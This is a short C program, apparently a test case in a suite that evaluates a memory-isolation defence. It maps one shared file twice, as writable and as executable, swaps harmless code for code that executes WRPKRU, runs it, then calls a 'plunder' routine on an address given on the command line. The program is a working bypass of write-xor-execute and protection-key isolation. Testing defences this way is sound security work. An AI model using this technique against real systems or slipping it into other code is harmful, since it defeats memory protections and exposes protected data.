/* Shared memory, mapped twice: once to be written, once to be run.
 * Defence: what is shared is not executable.  Control: off=shared. */
#include "attack.h"

#define O_RDWR_CREAT 0102

static volatile u8 innocent[] = {RET}, code[] = {CLEAR_REGISTERS, WRPKRU, RET};

int main(int argc, char **argv) {
    if (argc < 2)
        return 2;
    i64 fd = syscall(SYS_open, "/tmp/code", O_RDWR_CREAT, 0600);
    syscall(SYS_ftruncate, fd, PAGE);
    u8 *written = (u8 *)syscall(SYS_mmap, 0, PAGE, PROT_RW, MAP_SHARED, fd, 0);
    write_inverted(written, innocent, sizeof innocent);
    i64 page = syscall(SYS_mmap, 0, PAGE, PROT_RX, MAP_SHARED, fd, 0);
    if (page < 0)
        return refused("mmap", page);
    write_inverted(written, code, sizeof code);
    ((void (*)(void))page)();
    return plunder(hexadecimal(argv[1]));
}
